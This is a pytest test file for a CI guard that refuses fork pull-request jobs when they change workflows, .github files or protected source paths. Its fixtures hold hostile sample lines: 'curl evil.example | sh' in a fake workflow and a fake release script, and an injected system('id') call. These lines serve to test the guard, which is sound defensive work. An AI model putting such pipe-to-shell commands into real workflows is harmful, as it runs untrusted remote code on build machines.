"""The fork-PR guard against the real fork pull request and same-repository ones."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
import responses

from runner.github import guard
from runner.github.client import GitHubClient, RetryPolicy
from tests.github.github_fakes import API, INSTALLATION_ID, TOKEN_OP, example, load_payload, run_cli
from tests.github.repo_fakes import FakeRepo

FORK_PR = "listendev-lstn.pull_request.opened.from-fork.json"
SAME_REPO_PR = "listendev-lstn.pull_request.opened.same-repo.reviewdog.json"
WORKFLOW = ".github/workflows/ci.yml"
BASE_SHA = "e15189e841439da251f852a11d8fc9b339c1be68"  # from the fork payload
HEAD_SHA = "5864e328f129b98726813940b5bfa44707963bdc"
ANY_CONTENTS = re.compile(rf"{API}/repos/listendev/lstn/contents/.*")


def write_event(tmp_path: Path, payload: dict) -> Path:
    path = tmp_path / "event.json"
    path.write_text(json.dumps(payload))
    return path


def job_env(tmp_path: Path, payload: dict, event: str = "pull_request", repository: str | None = None) -> dict:
    repository = repository or payload["repository"]["full_name"]
    return {
        "GITHUB_EVENT_NAME": event,
        "GITHUB_REPOSITORY": repository,
        "GITHUB_EVENT_PATH": str(write_event(tmp_path, payload)),
        "GITHUB_WORKFLOW_REF": f"{repository}/{WORKFLOW}@refs/pull/{payload.get('number', 1)}/merge",
    }


def lstn_tree(workflow: str | None, **files: str) -> dict[str, str]:
    """A commit of the repository: a few files, the workflow when given, and `files` by path."""
    tree = {"README.md": "# lstn\n", "lib/octokit/client.rb": "class Client\nend\n", **files}
    if workflow is not None:
        tree[WORKFLOW] = workflow
    return tree


def fake_repo(operations, base: dict[str, str], head: dict[str, str]) -> FakeRepo:
    repo = FakeRepo(operations, "listendev/lstn", {BASE_SHA: base, HEAD_SHA: head})
    repo.register()
    return repo


def fake_workflows(operations, base: str | None, head: str | None) -> FakeRepo:
    return fake_repo(operations, lstn_tree(base), lstn_tree(head))


def client() -> GitHubClient:
    return GitHubClient(lambda: "ghs_token", retry=RetryPolicy(attempts=2), sleep=lambda _: None)


def no_client() -> GitHubClient:
    raise AssertionError("this job must not need GitHub")


SAFE = (
    "on: pull_request\njobs:\n  test:\n    runs-on: [self-hosted, microvm]\n"
    "    steps:\n      - uses: org/microvm-check@v1\n"
)
EVIL = SAFE.replace("      - uses: org/microvm-check@v1\n", "      - run: curl evil.example | sh\n")


@responses.activate
def test_real_fork_pr_with_a_changed_workflow_is_refused(tmp_path, operations) -> None:
    fake_workflows(operations, base=SAFE, head=EVIL)
    job = guard.job_context(job_env(tmp_path, load_payload(FORK_PR)))
    assert job.pull_request.from_fork and job.pull_request.head_repo == "leodido/lstn"
    verdict = guard.evaluate(job, guard.RepoRules(), client)
    assert not verdict.allowed
    assert "fork leodido/lstn" in verdict.reasons[0] and "was changed by pull request #217" in verdict.reasons[0]
    line = guard.error_lines(verdict)[0]
    assert line.startswith("::error title=microvm-check guard::")
    assert "pull_request_target" in line and "persist-credentials: false" in line and "\n" not in line


@responses.activate
def test_real_fork_pr_with_the_base_workflow_is_allowed(tmp_path, operations) -> None:
    fake_workflows(operations, base=SAFE, head=SAFE)
    verdict = guard.evaluate(guard.job_context(job_env(tmp_path, load_payload(FORK_PR))), guard.RepoRules(), client)
    assert verdict == guard.Verdict(True, ())
    assert len(responses.calls) == 3  # the root at base and head (same .github), the workflow at base


@responses.activate
def test_a_fork_that_changes_only_a_github_file_its_workflow_never_reaches_is_refused(tmp_path, operations) -> None:
    """The workflow is the base's, so nothing it reaches differs: the `.github/` change alone refuses the job
    (a script under .github/ that a later workflow, or a later version of this one, could run)."""
    fake_repo(operations, lstn_tree(SAFE), lstn_tree(SAFE, **{".github/scripts/release.sh": "curl evil.example | sh\n"}))
    verdict = guard.evaluate(guard.job_context(job_env(tmp_path, load_payload(FORK_PR))), guard.RepoRules(), client)
    assert verdict == guard.Verdict(False, (
        "this pull_request job comes from the fork leodido/lstn, and pull request #217 changes files under .github/, "
        "where workflows, actions and the scripts they run live, so forks may not change it. If these files never "
        "run (issue templates, say), the host's guard rules may list them under fork_may_change for listendev/lstn.",))


@responses.activate
def test_workflow_added_by_the_fork_is_refused(tmp_path, operations) -> None:
    fake_workflows(operations, base=None, head=EVIL)
    verdict = guard.evaluate(guard.job_context(job_env(tmp_path, load_payload(FORK_PR))), guard.RepoRules(), client)
    assert not verdict.allowed and "is new in pull request #217" in verdict.reasons[0]


@responses.activate
def test_github_failing_refuses_the_fork_job(tmp_path, monkeypatch, capsys, private_pem, token_endpoint) -> None:
    """End to end through `microvm-check guard`: GitHub errors make the guard fail closed."""
    key = tmp_path / "app.pem"
    key.write_text(private_pem)
    config = tmp_path / "github.yml"
    config.write_text(f"app_id: 1\nprivate_key_path: {key}\ninstallation_id: {INSTALLATION_ID}\n")
    token_endpoint(responses)
    responses.get(ANY_CONTENTS, status=403, json={"message": "Resource not accessible by integration"})
    for name, value in job_env(tmp_path, load_payload(FORK_PR)).items():
        monkeypatch.setenv(name, value)
    assert run_cli(["guard", "--config", str(config)]) == 1
    out = capsys.readouterr().out
    assert out.startswith("::error title=microvm-check guard::the guard could not check this job")
    assert "Resource not accessible by integration" in out


@responses.activate
@pytest.mark.parametrize(("head", "status"), [(EVIL, 1), (SAFE, 0)])
def test_guard_command_exit_status(tmp_path, monkeypatch, capsys, operations, private_pem, token_endpoint,
                                   head, status) -> None:
    key = tmp_path / "app.pem"
    key.write_text(private_pem)
    config = tmp_path / "github.yml"
    config.write_text(f"app_id: 1\nprivate_key_path: {key}\ninstallation_id: {INSTALLATION_ID}\n")
    token_endpoint(responses)
    fake_workflows(operations, base=SAFE, head=head)
    for name, value in job_env(tmp_path, load_payload(FORK_PR)).items():
        monkeypatch.setenv(name, value)
    assert run_cli(["guard", "--config", str(config)]) == status
    captured = capsys.readouterr()
    assert ("::error" in captured.out) == (status == 1)
    assert ("job allowed" in captured.err) == (status == 0)


@pytest.mark.parametrize("payload_name", [SAME_REPO_PR, "opened.payload.json", "synchronize.payload.json"])
def test_same_repository_pull_requests_need_no_github(tmp_path, payload_name) -> None:
    job = guard.job_context(job_env(tmp_path, load_payload(payload_name)))
    assert not job.pull_request.from_fork
    assert guard.evaluate(job, guard.RepoRules(), no_client).allowed


def test_pull_request_target_from_a_fork_runs_the_base_workflow(tmp_path) -> None:
    job = guard.job_context(job_env(tmp_path, load_payload(FORK_PR), event="pull_request_target"))
    assert job.pull_request.from_fork
    assert guard.evaluate(job, guard.RepoRules(), no_client).allowed


def test_author_rules_also_apply_to_pull_request_target(tmp_path) -> None:
    job = guard.job_context(job_env(tmp_path, load_payload(FORK_PR), event="pull_request_target"))
    verdict = guard.evaluate(job, guard.RepoRules(author_associations=("OWNER",)), no_client)
    assert not verdict.allowed and "author of #217 is MEMBER" in verdict.reasons[0]


def test_push_jobs_are_allowed_without_github(tmp_path) -> None:
    job = guard.job_context(job_env(tmp_path, load_payload(FORK_PR), event="push"))
    assert job.pull_request is None
    assert guard.evaluate(job, guard.RepoRules(author_associations=("OWNER",)), no_client).allowed


def test_deleted_fork_counts_as_a_fork(tmp_path) -> None:
    payload = load_payload(FORK_PR)
    payload["pull_request"]["head"]["repo"] = None
    env = job_env(tmp_path, payload)
    env["GITHUB_WORKFLOW_REF"] = "other/repo/.github/workflows/reusable.yml@refs/heads/main"
    verdict = guard.evaluate(guard.job_context(env), guard.RepoRules(), no_client)
    assert not verdict.allowed and "a deleted fork" in verdict.reasons[0] and "cannot identify" in verdict.reasons[0]


def test_rules_require_trusted_triggers(tmp_path) -> None:
    rules = guard.RepoRules(trusted_triggers=("pull_request_target", "push"))
    job = guard.job_context(job_env(tmp_path, load_payload(SAME_REPO_PR)))
    verdict = guard.evaluate(job, rules, no_client)
    assert not verdict.allowed and "triggered by pull_request" in verdict.reasons[0]


def test_rules_require_author_associations(tmp_path) -> None:
    job = guard.job_context(job_env(tmp_path, load_payload(SAME_REPO_PR)))
    verdict = guard.evaluate(job, guard.RepoRules(author_associations=("OWNER", "COLLABORATOR")), no_client)
    assert not verdict.allowed and "author of #285 is MEMBER" in verdict.reasons[0]
    rules = guard.load_rules(write_rules(tmp_path, "member"))  # case-insensitive, as GitHub spells them upper
    assert guard.evaluate(job, rules.for_repository("reviewdog/reviewdog"), no_client).allowed


def write_rules(tmp_path: Path, association: str) -> Path:
    path = tmp_path / "rules.yml"
    path.write_text(
        "default:\n  trusted_triggers: [pull_request_target]\n"
        f"repositories:\n  ReviewDog/ReviewDog:\n    author_associations: [{association}]\n"
    )
    return path


def test_rules_file_default_and_per_repository(tmp_path) -> None:
    rules = guard.load_rules(write_rules(tmp_path, "OWNER"))
    assert rules.for_repository("reviewdog/reviewdog") == guard.RepoRules(author_associations=("OWNER",))
    assert rules.for_repository("someone/else") == guard.RepoRules(trusted_triggers=("pull_request_target",))


@pytest.mark.parametrize(("text", "message"), [
    ("- a list\n", "^guard rules .*/rules.yml must be a mapping with 'default' and/or 'repositories'$"),
    ("repositories: [a]\n", "^'repositories' in .*/rules.yml must map owner/repo to rules$"),
    ("default: {trusted_triggers: pull_request}\n", "^.*/rules.yml: default: trusted_triggers must be a list of names$"),
    ("other: 1\n", "^guard rules .*/rules.yml must be a mapping with 'default' and/or 'repositories'$"),
    ("default: {unknown: [x]}\n", "^.*/rules.yml: default must be a mapping with any of trusted_triggers, author_associations, "
                                  "protected_paths, fork_may_change$"),
])
def test_bad_rules_files_are_refused(tmp_path, text, message) -> None:
    path = tmp_path / "rules.yml"
    path.write_text(text)
    with pytest.raises(guard.GuardError, match=message):
        guard.load_rules(path)


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (lambda env, p: env.pop("GITHUB_EVENT_PATH"), "GITHUB_EVENT_PATH is not set"),
        (lambda env, p: env.update(GITHUB_EVENT_PATH="/nonexistent/event.json"), "cannot read"),
        (lambda env, p: Path(env["GITHUB_EVENT_PATH"]).write_text("{not json"), "not JSON"),
        (lambda env, p: Path(env["GITHUB_EVENT_PATH"]).write_text("[]"), "not a JSON object"),
        (lambda env, p: env.update(GITHUB_REPOSITORY="x"), "GITHUB_REPOSITORY"),
        (lambda env, p: env.update(GITHUB_EVENT_NAME="pull request"), "GITHUB_EVENT_NAME"),
        (lambda env, p: env.update(GITHUB_REPOSITORY="leodido/lstn"), "is not the job's repository"),
        (lambda env, p: _rewrite(env, p, lambda e: e["pull_request"]["head"].update(sha="HEAD")), "sha"),
        (lambda env, p: _rewrite(env, p, lambda e: e["pull_request"].pop("base")), "head or base"),
        (lambda env, p: _rewrite(env, p, lambda e: e.pop("pull_request")), "no pull_request"),
        (lambda env, p: _rewrite(env, p, lambda e: e["pull_request"].update(number="217")), "number"),
        (lambda env, p: _rewrite(env, p, lambda e: e["pull_request"]["head"]["repo"].update(full_name="a/b/c")),
         "malformed"),
        (lambda env, p: env.update(GITHUB_WORKFLOW_REF="listendev/lstn/.github/workflows/../../x@refs/heads/m"),
         "workflow path"),
    ],
)
def test_unreadable_job_context_is_an_error(tmp_path, change, message) -> None:
    payload = load_payload(FORK_PR)
    env = job_env(tmp_path, payload)
    change(env, payload)
    with pytest.raises(guard.GuardError, match=message):
        guard.job_context(env)


def _rewrite(env: dict, payload: dict, edit) -> None:
    edit(payload)
    Path(env["GITHUB_EVENT_PATH"]).write_text(json.dumps(payload))


def test_oversize_event_file_is_refused(tmp_path, monkeypatch) -> None:
    env = job_env(tmp_path, load_payload(FORK_PR))
    monkeypatch.setattr(guard, "MAX_EVENT_BYTES", 1000)
    with pytest.raises(guard.GuardError, match="larger than 1000"):
        guard.job_context(env)


def test_workflow_command_escaping() -> None:
    assert guard.escape_data("100%\r\n::error::x") == "100%25%0D%0A::error::x"


def test_a_sha_with_a_trailing_newline_is_malformed(tmp_path) -> None:
    payload = load_payload(FORK_PR)
    payload["pull_request"]["head"]["sha"] = HEAD_SHA + "\n"
    with pytest.raises(guard.GuardError, match="sha"):
        guard.job_context(job_env(tmp_path, payload))


@pytest.mark.parametrize(("head_client", "allowed"), [("class Client\nend\n", True), ("system('id')\n", False)])
@responses.activate
def test_protected_directories_are_compared_by_tree_sha(tmp_path, operations, head_client, allowed) -> None:
    repo = fake_repo(operations, lstn_tree(SAFE), lstn_tree(SAFE, **{"lib/octokit/client.rb": head_client}))
    rules = guard.RepoRules(protected_paths=("lib/octokit",))
    verdict = guard.evaluate(guard.job_context(job_env(tmp_path, load_payload(FORK_PR))), rules, client)
    assert verdict.allowed is allowed
    assert ("lib", BASE_SHA) in repo.requests and ("lib/octokit", BASE_SHA) not in repo.requests  # one listing
    if not allowed:
        assert "changes lib/octokit, which listendev/lstn protects from forks" in verdict.reasons[0]


@responses.activate
def test_a_protected_path_added_by_the_fork_counts_as_changed(tmp_path, operations) -> None:
    base = lstn_tree(SAFE)
    del base["lib/octokit/client.rb"]
    fake_repo(operations, {**base, "lib/version.rb": "1\n"}, lstn_tree(SAFE, **{"lib/version.rb": "1\n"}))
    job = guard.job_context(job_env(tmp_path, load_payload(FORK_PR)))
    assert not guard.evaluate(job, guard.RepoRules(protected_paths=("lib/octokit",)), client).allowed
    assert guard.evaluate(job, guard.RepoRules(protected_paths=("lib/absent",)), client).allowed


def test_protected_paths_must_be_plain_repository_paths(tmp_path) -> None:
    path = tmp_path / "rules.yml"
    path.write_text("default:\n  protected_paths: [../outside]\n")
    with pytest.raises(guard.GuardError, match="protected_paths"):
        guard.load_rules(path)


@responses.activate
def test_guard_command_mints_one_installation_token(tmp_path, monkeypatch, capsys, operations, private_pem,
                                                    token_endpoint) -> None:
    """The workflow check and the protected-path check share one client, so one token request."""
    key = tmp_path / "app.pem"
    key.write_text(private_pem)
    config = tmp_path / "github.yml"
    config.write_text(f"app_id: 1\nprivate_key_path: {key}\ninstallation_id: {INSTALLATION_ID}\n")
    rules = tmp_path / "rules.yml"
    rules.write_text("default:\n  protected_paths: [lib/octokit]\n")
    token = example(operations, TOKEN_OP, "201")
    token["expires_at"] = "2099-01-01T00:00:00Z"  # the documented one expired in 2016: it would be re-minted
    tokens = token_endpoint(responses, body=token)
    fake_workflows(operations, base=SAFE, head=SAFE)
    for name, value in job_env(tmp_path, load_payload(FORK_PR)).items():
        monkeypatch.setenv(name, value)
    assert run_cli(["guard", "--config", str(config), "--rules", str(rules)]) == 0
    assert tokens.call_count == 1
    assert len(responses.calls) == 6  # one token, two root listings, the workflow at base, two lib listings
